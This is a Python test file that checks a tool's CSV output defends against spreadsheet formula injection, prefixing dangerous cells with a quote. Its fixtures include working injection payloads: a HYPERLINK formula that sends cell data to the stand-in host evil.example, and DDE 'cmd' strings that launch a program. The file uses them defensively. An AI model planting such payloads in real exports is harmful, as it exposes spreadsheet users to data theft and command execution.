"""CSV formula neutralisation (OWASP CSV injection): the cell rule, tables, and every CSV qiloop's CLI writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from qiloop.cli import main
from qiloop.csv_safety import frame_to_csv, neutralise_cell, neutralise_frame, neutralise_row

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # Plain numbers stay numbers: a spreadsheet reads them as numbers, never as a call.
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-2e3", "-2e3"),
        ("-.5", "-.5"),
        # Anything else is untouched.
        ("Riverside Surgery", "Riverside Surgery"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell, written):
    assert neutralise_cell(cell) == written


def test_tables_keep_numbers_dates_and_missing_values_and_neutralise_text():
    frame = pd.DataFrame(
        {
            "code": [FORMULA, "44054006", None],
            "change": [-3, 2, 1],
            "when": pd.to_datetime(["2026-01-01", "2026-02-01", "2026-03-01"]),
            "=label": pd.Categorical(["@x", "y", "@x"]),
        }
    )
    out = neutralise_frame(frame)
    assert out["code"].tolist()[:2] == ["'" + FORMULA, "44054006"] and pd.isna(out["code"].tolist()[2])
    assert out["change"].tolist() == [-3, 2, 1] and str(out["change"].dtype) == "int64"
    assert out["when"].equals(frame["when"])
    assert list(out.columns) == ["code", "change", "when", "'=label"]
    assert out["'=label"].tolist() == ["'@x", "y", "'@x"]
    assert frame["code"].tolist()[0] == FORMULA  # the caller's table is not changed
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame))))
    assert rows[1][0] == "'" + FORMULA and rows[1][1] == "-3"
    assert neutralise_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def read_csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_spc_csv_output_neutralises_labels(tmp_path: Path, capsys):
    data = tmp_path / "series.csv"
    rows = [["label", "y"]] + [[FORMULA if i == 3 else f"week {i}", str(10 + i % 3)] for i in range(1, 21)]
    with data.open("w", newline="") as f:
        csv.writer(f).writerows(rows)
    assert main(["spc", str(data), "--x", "label", "--csv"]) == 0
    out = read_csv_rows(capsys.readouterr().out)
    cells = [cell for row in out for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_funnel_csv_output_neutralises_unit_names(tmp_path: Path, capsys):
    data = tmp_path / "units.csv"
    rows = [["unit", "numerator", "denominator"]]
    rows += [[FORMULA if i == 2 else f"Practice {i}", str(10 + i), str(100 + 7 * i)] for i in range(1, 11)]
    with data.open("w", newline="") as f:
        csv.writer(f).writerows(rows)
    args = ["funnel", str(data), "--numerator", "numerator", "--denominator", "denominator", "--label", "unit"]
    assert main([*args, "--csv"]) == 0
    cells = [cell for row in read_csv_rows(capsys.readouterr().out) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
